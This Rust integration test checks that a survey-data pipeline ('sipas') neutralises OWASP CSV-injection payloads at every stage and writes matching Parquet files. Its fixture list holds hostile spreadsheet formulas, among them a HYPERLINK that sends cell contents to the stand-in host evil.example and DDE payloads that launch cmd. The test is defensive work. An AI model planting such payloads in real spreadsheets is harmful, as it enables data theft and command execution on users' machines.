//! No formula reaches a spreadsheet: the OWASP CSV-injection payloads fed through
//! ingest → clean → aggregate → report (one `run`), then every CSV sipas wrote is checked cell
//! by cell; `--excel-csv` puts a UTF-8 BOM in front of every CSV; the Parquet twins hold the
//! same rows, typed, with codes as text.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use polars::prelude::*;

use crate::common::{code, sipas, stderr};

/// OWASP's payloads (and the tab / carriage-return variants), as unit and district names,
/// response ids, unit codes and a kept free-text column.
const PAYLOADS: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-cmd|' /C calc'!A0",
];

/// A spreadsheet would run this cell.
fn dangerous(cell: &str) -> bool {
    matches!(
        cell.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    ) && !cell.parse::<f64>().is_ok_and(f64::is_finite)
}

fn csv_files(dir: &Path, out: &mut Vec<PathBuf>) {
    for e in fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            csv_files(&p, out);
        } else if p.extension().is_some_and(|x| x == "csv") {
            out.push(p);
        }
    }
}

fn cells(path: &Path) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_path(path)
        .unwrap()
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// Four units named after payloads (two pilots from 2024Q1), 2023Q4 and 2024Q1, four
/// responses per cell; plus rows that ingest quarantines (payload unit codes), rows that clean
/// excludes (re-sent copies) and a kept `note` column full of payloads.
fn job(dir: &Path, excel: bool) {
    let inst = sipas_core::bundled::instrument("sipas-2017").unwrap();
    let items = inst.item_ids().join(",");
    let mut units = String::from("code,name,kind,district_code,district_name\n");
    let mut w = csv::WriterBuilder::new().from_writer(Vec::new());
    for (i, code) in ["00001", "00002", "00003", "00004"].iter().enumerate() {
        w.write_record([
            *code,
            PAYLOADS[i],
            "xa",
            if i < 2 { "901" } else { "902" },
            if i < 2 {
                PAYLOADS[4 + i % 2]
            } else {
                PAYLOADS[6]
            },
        ])
        .unwrap();
    }
    units.push_str(std::str::from_utf8(&w.into_inner().unwrap()).unwrap());
    fs::write(dir.join("units.csv"), units).unwrap();
    fs::write(
        dir.join("pilots.toml"),
        "program = \"=1+1\"\nstart = \"2024Q1\"\nunits = [\"00001\", \"00002\"]\n",
    )
    .unwrap();
    let mut w = csv::WriterBuilder::new().from_writer(Vec::new());
    let mut head = vec!["response_id", "unit_code", "period", "note"];
    head.extend(items.split(','));
    w.write_record(&head).unwrap();
    let mut n = 0;
    for (u, code) in ["00001", "00002", "00003", "00004"].iter().enumerate() {
        for period in ["2023Q4", "2024Q1"] {
            for r in 0..4 {
                n += 1;
                let id = format!("r{n}");
                let note = PAYLOADS[(u + r) % PAYLOADS.len()];
                let answer = ((u + r + usize::from(period == "2024Q1")) % 5 + 1).to_string();
                let mut row = vec![id.clone(), (*code).to_string(), period.to_string()];
                row.push(note.to_string());
                row.extend((0..22).map(|k| {
                    if k % 3 == 0 {
                        answer.clone()
                    } else {
                        "4".into()
                    }
                }));
                w.write_record(&row).unwrap();
                if r == 0 {
                    // A re-sent copy: new id, every other field the same (clean excludes it).
                    row[0] = format!("{}-copy", PAYLOADS[u]);
                    w.write_record(&row).unwrap();
                }
            }
        }
    }
    for p in PAYLOADS {
        // An unknown unit code: ingest quarantines the row with its text.
        let mut row = vec![
            p.to_string(),
            p.to_string(),
            "2024Q1".to_string(),
            p.to_string(),
        ];
        row.extend((0..22).map(|_| "3".to_string()));
        w.write_record(&row).unwrap();
    }
    fs::write(dir.join("in.csv"), w.into_inner().unwrap()).unwrap();
    fs::write(
        dir.join("job.toml"),
        format!(
            "out = \"out\"\ninstrument = \"sipas-2017\"\nunits = \"units.csv\"\npilots = \"pilots.toml\"\nexcel_csv = {excel}\n\n[ingest]\ninputs = [\"in.csv\"]\nkeep_columns = [\"note\"]\n"
        ),
    )
    .unwrap();
}

#[test]
fn owasp_payloads_reach_no_csv_as_formulas_through_every_stage() {
    let tmp = tempfile::tempdir().unwrap();
    job(tmp.path(), false);
    let out = sipas(tmp.path(), &["run", "--config", "job.toml"]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let root = tmp.path().join("out");
    let mut files = Vec::new();
    csv_files(&root, &mut files);
    files.sort();
    // Where each payload must show up (inert), so the check below is not vacuous.
    let mut inert: BTreeMap<String, usize> = BTreeMap::new();
    let mut negative_numbers = 0;
    for f in &files {
        let rel = f.strip_prefix(&root).unwrap().display().to_string();
        let bytes = fs::read(f).unwrap();
        assert!(
            !bytes.starts_with(b"\xEF\xBB\xBF"),
            "{rel}: BOM without --excel-csv"
        );
        for (i, row) in cells(f).iter().enumerate() {
            for c in row {
                assert!(
                    !dangerous(c),
                    "{rel} record {i}: {c:?} would run as a formula"
                );
                if let Some(rest) = c.strip_prefix('\'')
                    && PAYLOADS
                        .iter()
                        .any(|p| rest.starts_with(p) || p.starts_with(rest))
                {
                    *inert.entry(rel.clone()).or_default() += 1;
                }
                if c.starts_with('-') && c.parse::<f64>().is_ok() {
                    negative_numbers += 1;
                }
            }
        }
    }
    for must in [
        "ingest/quarantine.csv",
        "clean/quarantine.csv",
        "results/unit_period.csv",
        "results/estimates.csv",
        "clean/clean-by-cell.csv",
    ] {
        assert!(
            inert.get(must).copied().unwrap_or(0) > 0,
            "{must}: no neutralised payload found (files: {inert:?})"
        );
    }
    // Numbers stay numbers: the pilot effect or a bound is negative somewhere, unprefixed.
    assert!(negative_numbers > 0, "no negative number written");

    // The Parquet twin of unit_period holds the original names and codes as text.
    let f = fs::File::open(root.join("results/unit_period.parquet")).unwrap();
    let df = ParquetReader::new(f).finish().unwrap();
    let text = |col: &str| -> Vec<String> {
        let ca = df.column(col).unwrap().str().unwrap().clone();
        (0..ca.len())
            .filter_map(|i| ca.get(i).map(str::to_string))
            .collect()
    };
    // The unit name is written with its kind ("Xã …"); the district name as given.
    let names = text("unit_name");
    assert!(names.iter().any(|n| n.ends_with(PAYLOADS[0])), "{names:?}");
    let districts = text("district");
    assert!(districts.iter().any(|d| d == PAYLOADS[6]), "{districts:?}");
    assert_eq!(df.column("unit_code").unwrap().dtype(), &DataType::String);
}

#[test]
fn excel_csv_puts_a_bom_in_front_of_every_csv_and_the_twins_match_the_csvs() {
    let tmp = tempfile::tempdir().unwrap();
    job(tmp.path(), true);
    let out = sipas(tmp.path(), &["run", "--config", "job.toml"]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let root = tmp.path().join("out");
    let mut files = Vec::new();
    csv_files(&root, &mut files);
    assert!(files.len() >= 10, "{files:?}");
    for f in &files {
        let bytes = fs::read(f).unwrap();
        assert!(
            bytes.starts_with(b"\xEF\xBB\xBF"),
            "{}: no BOM",
            f.display()
        );
        assert!(
            !bytes[3..].starts_with(b"\xEF\xBB\xBF"),
            "{}: two BOMs",
            f.display()
        );
    }
    // Every result table has a typed Parquet twin with the CSV's rows.
    let results = root.join("results");
    let mut twins = 0;
    for f in files.iter().filter(|f| f.starts_with(&results)) {
        let twin = f.with_extension("parquet");
        assert!(twin.exists(), "{} has no Parquet twin", f.display());
        twins += 1;
        let df = ParquetReader::new(fs::File::open(&twin).unwrap())
            .finish()
            .unwrap();
        let rows = cells(f);
        let header = &rows[0];
        let header: Vec<&str> = header
            .iter()
            .map(|h| h.trim_start_matches('\u{feff}'))
            .collect();
        let names: Vec<&str> = df.get_column_names().iter().map(|n| n.as_str()).collect();
        assert_eq!(names, header, "{}", twin.display());
        assert_eq!(df.height(), rows.len() - 1, "{}", twin.display());
        for (j, name) in header.iter().enumerate() {
            let col = df.column(name).unwrap();
            for (i, row) in rows[1..].iter().enumerate() {
                let csv_cell = row[j]
                    .strip_prefix('\'')
                    .filter(|_| dangerous(&row[j][1..]));
                let csv_cell = csv_cell.unwrap_or(&row[j]);
                let v = col.get(i).unwrap();
                match col.dtype() {
                    DataType::String => {
                        let s = v.get_str().unwrap_or("");
                        assert_eq!(s, csv_cell, "{} {name} row {i}", twin.display());
                    }
                    DataType::Float64 => {
                        let want: Option<f64> =
                            (!csv_cell.is_empty()).then(|| csv_cell.parse().unwrap());
                        let got = v.extract::<f64>();
                        match (want, got) {
                            (Some(w), Some(g)) => assert!(
                                (w - g).abs() < 5e-7,
                                "{} {name} row {i}: {w} vs {g}",
                                twin.display()
                            ),
                            (None, None) => {}
                            other => panic!("{} {name} row {i}: {other:?}", twin.display()),
                        }
                    }
                    DataType::Int64 | DataType::UInt64 => {
                        assert_eq!(
                            v.extract::<i64>()
                                .map(|x| x.to_string())
                                .unwrap_or_default(),
                            csv_cell,
                            "{} {name} row {i}",
                            twin.display()
                        );
                    }
                    DataType::Boolean => {
                        let got = match v {
                            AnyValue::Boolean(b) => b.to_string(),
                            _ => String::new(),
                        };
                        assert_eq!(got, csv_cell, "{} {name} row {i}", twin.display());
                    }
                    other => panic!("{} {name}: unexpected type {other}", twin.display()),
                }
            }
            if ["unit_code", "domain", "period", "unit_name", "district"].contains(name) {
                assert_eq!(col.dtype(), &DataType::String, "{} {name}", twin.display());
            }
            if *name == "n" {
                assert!(
                    matches!(col.dtype(), DataType::Int64 | DataType::UInt64),
                    "{} n",
                    twin.display()
                );
            }
        }
    }
    assert!(twins >= 8, "{twins} twins");
    // The report reads the BOM-prefixed tables.
    assert!(root.join("report/index.html").exists());
}
